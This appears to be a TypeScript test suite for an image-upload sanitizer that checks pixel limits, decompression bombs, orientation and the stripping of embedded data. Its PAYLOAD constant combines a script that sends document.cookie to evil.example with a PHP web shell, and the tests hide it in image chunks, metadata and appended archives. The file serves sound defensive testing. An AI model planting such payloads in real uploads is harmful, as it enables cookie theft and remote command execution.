import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import sharp, { type Sharp } from 'sharp'
import { describe, expect, test } from 'vitest'
import { zip } from '../../../tests/fixtures/sheets/zip.ts'
import { zerosPacked } from '../../../tests/fixtures/uploads/deflate.ts'
import { peakMegabytes } from '../../../tests/fixtures/uploads/peak.ts'
import { blackPng, pngChunk, withChunks } from '../../../tests/fixtures/uploads/png.ts'
import { screenOf } from '../../../tests/fixtures/uploads/screen.ts'
import { acceptUpload } from './accept-upload.ts'
import type { UploadLimits } from './upload.ts'

const FORMATS = ['png', 'jpeg', 'webp', 'gif'] as const
type Format = (typeof FORMATS)[number]

const screen = screenOf({ name: 'Maria Lopez', width: 600, height: 400 })
const GOOD: Record<Format, Buffer> = {
  png: await screen.clone().png().toBuffer(),
  jpeg: await screen.clone().jpeg().toBuffer(),
  webp: await screen.clone().webp().toBuffer(),
  gif: await screen.clone().gif().toBuffer(),
}

const LOSSLESS_WEBP = await screen.clone().webp({ lossless: true }).toBuffer()
const WEBP_WITH_EXTRAS = await screen.clone().withXmp('<x:xmpmeta/>').webp().toBuffer()

async function keptOf(bytes: Uint8Array, limits: Partial<UploadLimits> = {}) {
  const kept = await acceptUpload(bytes, { limits })
  if (!kept.ok) throw new Error(kept.message)
  if (kept.kind !== 'image') throw new Error('no picture')
  return kept
}

const codeOf = async (bytes: Uint8Array, limits: Partial<UploadLimits> = {}) => {
  const answer = await acceptUpload(bytes, { limits })
  return answer.ok ? 'kept' : answer.code
}

const edited = (bytes: Buffer, edit: (copy: Buffer) => unknown): Buffer => {
  const copy = Buffer.from(bytes)
  edit(copy)
  return copy
}

describe('sizes are read before anything is unpacked', () => {
  test('20,000 × 20,000 pixels in 50 KB take no memory', async () => {
    const bytes = blackPng(20_000, 20_000)
    const { result, megabytes } = await peakMegabytes(() => acceptUpload(bytes))
    expect(result).toMatchObject({ ok: false, code: 'file.too_many_pixels', message: expect.stringContaining('20,000 × 20,000 pixels') })
    expect(megabytes).toBeLessThan(20)
  })

  const frameAt = GOOD.jpeg.indexOf(Buffer.from('ffc00011', 'hex'))
  test.each<[why: string, bytes: Buffer, code: string]>([
    ['PNG: a side too long', blackPng(12_001, 1), 'file.too_many_pixels'],
    ['PNG: the longest side', blackPng(12_000, 1), 'kept'],
    ['PNG: sides that fit with too many pixels', blackPng(5000, 5001), 'file.too_many_pixels'],
    ['PNG: as many pixels as are taken', blackPng(5000, 5000), 'kept'],
    ['PNG: the largest number there is', edited(GOOD.png, (b) => b.writeUInt32BE(0xffffffff, 16)), 'file.too_many_pixels'],
    ['PNG: no width', edited(GOOD.png, (b) => b.writeUInt32BE(0, 16)), 'file.broken'],
    ['JPEG: a claim of 65,535 lines', edited(GOOD.jpeg, (b) => b.writeUInt16BE(65_535, frameAt + 5)), 'file.too_many_pixels'],
    ['JPEG: no height', edited(GOOD.jpeg, (b) => b.writeUInt16BE(0, frameAt + 5)), 'file.broken'],
    ['GIF: a screen of 65,535', edited(GOOD.gif, (b) => b.writeUInt16LE(65_535, 6)), 'file.too_many_pixels'],
    [
      'GIF: a small screen with a frame of 65,535',
      edited(GOOD.gif, (b) => b.writeUInt16LE(65_535, b.indexOf(Buffer.from('2c00000000', 'hex')) + 5)),
      'file.too_many_pixels',
    ],
    ['WebP: 16,383 wide', edited(GOOD.webp, (b) => b.writeUInt16LE(0x3fff, 26)), 'file.too_many_pixels'],
    ['WebP without loss: 16,384 a side', edited(LOSSLESS_WEBP, (b) => b.writeUInt32LE(0x0fffffff, 21)), 'file.too_many_pixels'],
    [
      'WebP with extras: a canvas of 2 to the 24th',
      edited(WEBP_WITH_EXTRAS, (b) => b.writeUIntLE(0xffffff, 24, 3)),
      'file.too_many_pixels',
    ],
  ])('%s', async (_why, bytes, code) => {
    expect(await codeOf(bytes)).toBe(code)
  })
})

describe('bombs', () => {
  const text = (megabytes: number) => Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), zerosPacked(megabytes)])
  test.each<[why: string, bytes: Buffer]>([
    ['a comment of a PNG that unpacks to a gigabyte', withChunks(GOOD.png, [pngChunk('zTXt', text(1024))])],
    [
      'a colour profile that unpacks to a gigabyte',
      withChunks(GOOD.png, [pngChunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), zerosPacked(1024)]))]),
    ],
    [
      'pixels that unpack to a gigabyte',
      Buffer.concat([GOOD.png.subarray(0, 33), pngChunk('IDAT', zerosPacked(1024)), pngChunk('IEND', '')]),
    ],
  ])('%s', async (_why, bytes) => {
    const { result, megabytes } = await peakMegabytes(() => acceptUpload(bytes))
    expect(result.ok ? result.kind : result.code).toSatisfy((got) => got === 'image' || got === 'file.broken')
    expect(megabytes).toBeLessThan(150)
  })

  test('a progressive JPEG of a thousand scans is given up', async () => {
    const flat = sharp({ create: { width: 4000, height: 4000, channels: 3, background: '#123456' } })
    const whole = await flat.jpeg({ progressive: true }).toBuffer()
    const last = whole.subarray(whole.lastIndexOf(Buffer.from('ffda', 'hex')), whole.length - 2)
    const bytes = Buffer.concat([whole.subarray(0, -2), ...Array.from({ length: 1000 }, () => last), whole.subarray(-2)])
    expect(await codeOf(bytes)).toBe('file.broken')
  })

  test('of a film of 2,000 frames only the first is unpacked', async () => {
    const frame = sharp({ create: { width: 500, height: 500, channels: 3, background: '#123456' } })
    const gif = await frame.gif().toBuffer()
    const start = gif.indexOf(Buffer.from('2c00000000', 'hex'))
    const loop = Buffer.from('21ff0b4e45545343415045322e300301000000', 'hex')
    const frames = Array.from({ length: 2000 }, () => gif.subarray(start, gif.length - 1))
    const { result, megabytes } = await peakMegabytes(() =>
      acceptUpload(Buffer.concat([gif.subarray(0, start), loop, ...frames, gif.subarray(-1)])),
    )
    expect(result).toMatchObject({ ok: true, width: 500, height: 500, warnings: ['Only the first picture of the animation was kept.'] })
    expect(megabytes).toBeLessThan(150)
  })

  const flat = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#123456' } })
  test.each<[why: string, bytes: () => Promise<Buffer>, code: string, megapixels?: number]>([
    ['a PNG of 25 megapixels', () => flat(5000, 5000).png().toBuffer(), 'kept'],
    ['a PNG of more', () => flat(5000, 5001).png().toBuffer(), 'file.too_many_pixels', 25],
    ['an interlaced PNG of 16 megapixels', () => flat(4000, 4000).png({ progressive: true }).toBuffer(), 'kept'],
    ['an interlaced PNG of more', () => flat(4000, 4001).png({ progressive: true }).toBuffer(), 'file.too_many_pixels', 16],
    ['a progressive JPEG of more', () => flat(4000, 4001).jpeg({ progressive: true }).toBuffer(), 'file.too_many_pixels', 16],
    ['a photograph of 50 megapixels', () => flat(8000, 6250).jpeg().toBuffer(), 'kept'],
    ['a photograph of more', () => flat(8000, 6251).jpeg().toBuffer(), 'file.too_many_pixels', 50],
  ])('%s', async (_why, bytes, code, megapixels) => {
    const result = await acceptUpload(await bytes(), { name: 'big' })
    expect(result.ok ? 'kept' : result.code).toBe(code)
    if (!result.ok) expect(result.message).toContain(`${megapixels} megapixels in all are read: save it smaller`)
  })

  test('six of the largest at once need little more than one', async () => {
    const bytes = await flat(4000, 4000).png({ progressive: true }).toBuffer()
    const { result, megabytes } = await peakMegabytes(() => Promise.all(Array.from({ length: 6 }, () => acceptUpload(bytes))))
    expect(result.map(({ ok }) => ok)).toEqual([true, true, true, true, true, true])
    expect(megabytes).toBeLessThan(220)
  })

  test('many at once are all answered', async () => {
    const answers = await Promise.all(Array.from({ length: 12 }, (_, i) => codeOf(GOOD[FORMATS[i % 4] ?? 'png'])))
    expect(answers).toEqual(Array.from({ length: 12 }, () => 'kept'))
  })
})

const PAYLOAD = '<script>fetch("//evil.example/"+document.cookie)</script><?php system($_GET["c"]); ?>'
const payload = Buffer.from(PAYLOAD)
const lengthed = (bytes: Buffer) => Buffer.concat([Buffer.from([(bytes.length + 2) >> 8, (bytes.length + 2) & 255]), bytes])
const afterStart = (jpeg: Buffer, segments: readonly Buffer[]) => Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)])
const exif = {
  IFD0: { ImageDescription: PAYLOAD, Make: 'Phone' },
  IFD3: { GPSLatitude: '39/1 44/1 21/1', GPSLongitude: '104/1 59/1 25/1' },
}

/** Runs of five bytes of a secret that are still there. */
const survivors = (bytes: Uint8Array, secret: Buffer): string[] =>
  Array.from({ length: secret.length - 4 }, (_, i) => secret.subarray(i, i + 5))
    .filter((run) => Buffer.from(bytes).includes(run))
    .map(String)

test.each<[why: string, bytes: Buffer]>([
  ['a web page behind a PNG', Buffer.concat([GOOD.png, payload])],
  [
    'text chunks of a PNG',
    withChunks(GOOD.png, [pngChunk('tEXt', `Comment\0${PAYLOAD}`), pngChunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${PAYLOAD}`)]),
  ],
  [
    'packed text of a PNG',
    withChunks(GOOD.png, [pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(payload, { level: 0 })]))]),
  ],
  ['a chunk of no known kind', withChunks(GOOD.png, [pngChunk('evIl', payload)])],
  ['a colour table of a PNG', withChunks(GOOD.png, [pngChunk('PLTE', payload.subarray(0, 81))])],
  ['a zip behind a JPEG', Buffer.concat([GOOD.jpeg, zip([{ name: 'x.html', content: PAYLOAD, stored: true }])])],
  ['a comment of a JPEG', afterStart(GOOD.jpeg, [Buffer.from('fffe', 'hex'), lengthed(payload)])],
  ['an application segment of a JPEG', afterStart(GOOD.jpeg, [Buffer.from('ffed', 'hex'), lengthed(payload)])],
  ['the place a photo was taken at', await screen.clone().withExif(exif).jpeg().toBuffer()],
  ['metadata of a WebP', await screen.clone().withExif(exif).withXmp(`<x:xmpmeta>${PAYLOAD}</x:xmpmeta>`).webp().toBuffer()],
  ['a Java archive behind a GIF', Buffer.concat([GOOD.gif, zip([{ name: 'X.class', content: PAYLOAD, stored: true }])])],
  [
    'a comment of a GIF',
    Buffer.concat([GOOD.gif.subarray(0, -1), Buffer.from([0x21, 0xfe, payload.length]), payload, Buffer.from([0]), GOOD.gif.subarray(-1)]),
  ],
  ['a PDF behind a PNG', Buffer.concat([GOOD.png, Buffer.from(`%PDF-1.7\n1 0 obj<</JS(${PAYLOAD})>>endobj`)])],
])('only pixels go over, no bytes of %s', async (_why, bytes) => {
  expect(survivors(bytes, payload).length).toBeGreaterThan(0)
  const kept = await keptOf(bytes)
  expect(survivors(kept.bytes, payload)).toEqual([])
  expect(kept).toMatchObject({ width: 600, height: 400 })
})

describe('what is seen is what is kept', () => {
  const pixelOf = async (bytes: Uint8Array, left: number, top: number) => [
    ...(await sharp(bytes).extract({ left, top, width: 1, height: 1 }).raw().toBuffer()),
  ]

  test('a photo is turned upright', async () => {
    const wide = sharp({ create: { width: 80, height: 40, channels: 3, background: '#ffffff' } })
    const dark = { create: { width: 40, height: 40, channels: 3, background: '#000000' } } as const
    const photo = await wide
      .composite([{ input: dark, left: 0, top: 0 }])
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer()
    const kept = await keptOf(photo)
    expect(kept).toMatchObject({ width: 40, height: 80 })
    expect([(await pixelOf(kept.bytes, 20, 10))[0], (await pixelOf(kept.bytes, 20, 70))[0]]).toEqual([expect.toSatisfy((v) => v < 20), 255])
  })

  test('what lies under transparent pixels is covered', async () => {
    const secret = await screen.clone().ensureAlpha(0).png().toBuffer()
    const kept = await keptOf(secret)
    expect((await sharp(kept.bytes).stats()).channels.map(({ min }) => min)).toEqual([255, 255, 255])
  })

  test.each<[why: string, made: () => Sharp]>([
    ['16 bits a colour', () => screen.clone().toColourspace('rgb16').png()],
    ['shades of grey', () => screen.clone().greyscale().png()],
    ['a palette', () => screen.clone().png({ palette: true, colours: 16 })],
    ['in rows far apart (interlaced)', () => screen.clone().png({ progressive: true })],
    ['inks (CMYK)', () => screen.clone().toColourspace('cmyk').jpeg()],
    ['another colour profile', () => screen.clone().withIccProfile('p3').png()],
  ])('%s', async (_why, made) => {
    const kept = await keptOf(await made().toBuffer())
    expect(await sharp(kept.bytes).metadata()).toMatchObject({ width: 600, height: 400, channels: 3, space: 'srgb' })
    const [background] = await pixelOf(kept.bytes, 590, 110)
    expect(background).toSatisfy((shade) => shade > 235)
  })

  test('a screenshot is kept to the pixel', async () => {
    const kept = await keptOf(GOOD.png)
    expect(await sharp(kept.bytes).raw().toBuffer()).toEqual(await sharp(GOOD.png).raw().toBuffer())
  })

  test.each([
    ['a wide photo', 4000, 3000],
    ['a long scrolled page keeps its width readable', 1000, 9000],
  ])('scaled down to about so many pixels, in its shape: %s', async (_why, width, height) => {
    const kept = await keptOf(
      await sharp({ create: { width, height, channels: 3, background: '#888888' } })
        .jpeg()
        .toBuffer(),
    )
    expect(kept.width * kept.height).toBeLessThan(5_100_000)
    expect(kept.width * kept.height).toBeGreaterThan(4_900_000)
    expect(kept.width / kept.height).toBeCloseTo(width / height, 2)
  })
})

test.each(FORMATS)('a %s cut anywhere is refused', async (format) => {
  const whole = GOOD[format]
  for (const part of [0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.98]) {
    expect(await codeOf(whole.subarray(0, Math.floor(whole.length * part)))).toBeOneOf(['file.broken', 'file.wrong_type'])
  }
})

test.each(FORMATS)(
  'property: a %s changed on the way gets one answer',
  async (format) => {
    const whole = GOOD[format]
    const changes = fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 6 })
    const near = fc.array(fc.tuple(fc.nat(64), fc.nat(255)), { maxLength: 3 })
    await fc.assert(
      fc.asyncProperty(changes, near, fc.integer({ min: 1, max: whole.length * 2 }), async (anywhere, early, length) => {
        const bytes = edited(whole, (copy) => {
          for (const [place, byte] of [...anywhere, ...early]) copy[place] = byte
        }).subarray(0, length)
        const answer = await acceptUpload(bytes)
        if (answer.ok) expect(answer.bytes.length).toBeGreaterThan(0)
        else expect(answer.message).toMatch(/^[^!\n]+\.$/)
      }),
      { numRuns: 60, endOnFailure: true },
    )
  },
  60_000,
)

test('property: any bytes get one answer', async () => {
  const starts = fc.constantFrom('', '\x89PNG\r\n\x1a\n', '\xff\xd8\xff', 'GIF89a', 'RIFF1234WEBPVP8 ', 'RIFF1234WEBPVP8X', 'BM', '<svg ')
  await fc.assert(
    fc.asyncProperty(starts, fc.uint8Array({ maxLength: 300 }), async (start, rest) => {
      const answer = await acceptUpload(Buffer.concat([Buffer.from(start, 'latin1'), rest]))
      expect(answer.ok || /^[^!\n]+\.$/.test(answer.message)).toBe(true)
    }),
    { numRuns: 300 },
  )
})
